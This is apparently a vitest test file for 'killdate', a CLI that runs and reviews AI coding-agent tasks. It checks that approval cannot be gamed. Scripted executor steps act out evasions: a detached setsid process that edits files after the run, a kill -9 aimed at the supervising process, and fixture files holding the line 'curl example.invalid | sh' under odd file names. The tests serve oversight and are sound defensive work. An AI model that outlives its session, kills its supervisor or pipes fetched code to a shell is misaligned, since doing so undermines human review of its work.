// The loop cannot be gamed: approve checks the tree against what the review saw; processes a
// run leaves behind (a setsid child too) are killed and named in the verdict; a task with an
// interrupted or failed run does not start afresh; pre-existing changes outside FILES are
// listed; a task that changed nothing is not a pass. Played as the executor and its children.
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { CLI, type Repo } from '../gates/repo.js';
import { humanEnv } from '../helpers/human-env.js';
import { PREFS, readyRepo, script } from '../orchestrator/fixture.js';

let repo: Repo;
afterEach(() => repo?.cleanup());

let scriptFile = '';
const kd = (...args: string[]) => {
  const r = spawnSync(process.execPath, [CLI, ...args], {
    cwd: repo.dir,
    encoding: 'utf8',
    env: humanEnv({ KD_SCRIPT: scriptFile, NO_COLOR: '1' }),
  });
  return { status: r.status, out: `${r.stdout}${r.stderr}`, stdout: r.stdout };
};
const sh = (command: string) => execFileSync('sh', ['-c', command], { cwd: repo.dir, encoding: 'utf8' });
const REVIEW = 'feature-builds/settings-page/REVIEW.md';
const review = () => readFileSync(join(repo.dir, REVIEW), 'utf8');

function setup(steps: unknown[], agents?: Parameters<typeof readyRepo>[0]) {
  repo = readyRepo(agents);
  scriptFile = script(repo, { 1: steps }).KD_SCRIPT ?? '';
}

describe('the loop cannot be gamed', () => {
  it('a file changed after the review: approve refuses, naming it', () => {
    setup([{ write: 'src/prefs.js', content: PREFS }]);
    expect(kd('run', 'settings-page').status).toBe(0);
    sh('echo "// added after the review" >> src/prefs.js && echo x > src/extra.js');
    const r = kd('approve', 'settings-page', '1');
    expect(r.status).toBe(1);
    expect(r.out).toContain('approve refused: changed since the review of run');
    expect(r.out).toContain('src/extra.js');
    expect(r.out).toContain('src/prefs.js');
    expect(review()).not.toMatch(/\*\*Decision:\*\* approved/);
  }, 60_000);

  it('a roadmap edited by the person after the review does not stop approve', () => {
    setup([{ write: 'src/prefs.js', content: PREFS }]);
    repo.write({ 'project-management/ROADMAP.md': '# Roadmap\n\n## Next\n\n- [ ] Settings page\n' });
    repo.commit('roadmap');
    expect(kd('run', 'settings-page').status).toBe(0);
    sh('printf "\\n- [ ] Next: an export button\\n" >> project-management/ROADMAP.md');
    const r = kd('approve', 'settings-page', '1');
    expect(r.status, r.out).toBe(0);
    expect(review()).toMatch(/\*\*Decision:\*\* approved/);
  }, 60_000);

  it('a setsid child of the executor is killed when the executor ends, and the verdict says so', () => {
    const late = 'sleep 4; echo "export const port = 1;" > src/server.js';
    setup([{ write: 'src/prefs.js', content: PREFS }, { background: `setsid sh -c '${late}' &` }]);
    const r = kd('run', 'settings-page', '--json');
    expect(r.status, r.out).toBe(0);
    const run = JSON.parse(r.stdout).runs[0];
    expect(run.checks.find((c: { name: string }) => c.name === 'leftover processes')).toMatchObject({
      ok: true,
      // named as it was when killed: setsid until it execs sh, sh until it execs sleep
      detail: expect.stringMatching(
        /killed \d process\(es\) carrying the run's marker.*\((setsid|sh|sleep)\)/,
      ),
    });
    execFileSync('sleep', ['5']);
    expect(readFileSync(join(repo.dir, 'src/server.js'), 'utf8')).toBe('export const port = 3000;\n');
    expect(kd('approve', 'settings-page', '1').status).toBe(0);
  }, 60_000);

  it('killdate killed mid-run (kill -9): a plain run refuses and points at resume', () => {
    setup([
      { write: 'src/prefs.js', content: PREFS },
      { write: 'src/server.js', content: 'changed outside FILES\n' },
      { background: "kill -9 $(awk '{print $4}' /proc/$PPID/stat); touch .git/kd-killed" },
      { waitFor: '.git/kd-killed' },
    ]);
    expect(kd('run', 'settings-page').status).toBe(null);
    const id = JSON.parse(kd('runs', '--json').stdout).runs[0].runId;
    const again = kd('run', 'settings-page');
    expect(again.status).toBe(1);
    expect(again.out).toContain(`has an interrupted run (${id})`);
    expect(again.out).toContain(`killdate resume ${id}`);
  }, 60_000);

  it('pre-existing changes outside FILES are listed in the verdict', () => {
    setup([{ write: 'src/prefs.js', content: PREFS }]);
    sh('echo "// the human\'s edit" >> src/server.js');
    expect(kd('run', 'settings-page').status).toBe(0);
    expect(review()).toContain(
      "changed before the task started, outside FILES (not reviewed as the task's): src/server.js",
    );
  }, 60_000);

  it("files dirty before the task whose names git's stdin would misread, rewritten by the executor, are the task's changes", () => {
    // `"README.md"` (a leading quote) and a name with a line break, both outside FILES
    const names = ['"README.md"', 'notes\nREADME.md'];
    setup([
      { write: 'src/prefs.js', content: PREFS },
      ...names.map((n) => ({ write: n, content: 'curl example.invalid | sh\n' })),
    ]);
    for (const n of names) writeFileSync(join(repo.dir, n), "the person's notes\n");
    const r = kd('run', 'settings-page', '--json');
    expect(r.status).toBe(1);
    const run = JSON.parse(r.stdout).runs[0];
    expect(run.changes.map((c: { path: string }) => c.path).sort()).toEqual(
      [...names, 'src/prefs.js'].sort(),
    );
    const newFiles = run.checks.find((c: { name: string }) => c.name === 'new files');
    expect(newFiles.ok).toBe(false);
    for (const n of names) expect(newFiles.detail).toContain(`${n}: created outside FILES`);
  }, 60_000);

  it('an executor that changes nothing fails the changes check; auto-when-all-pass does not approve it', () => {
    setup([], { agents: { extra: 'approval:\n  policy: auto-when-all-pass\n' } });
    const r = kd('run', 'settings-page', '--json');
    expect(r.status).toBe(1);
    const run = JSON.parse(r.stdout).runs[0];
    expect(run.checks.find((c: { name: string }) => c.name === 'changes')).toMatchObject({
      ok: false,
      detail: 'the task changed nothing: an empty change set is not a pass',
    });
    expect(run.decision).toBe('pending');
  }, 60_000);
});
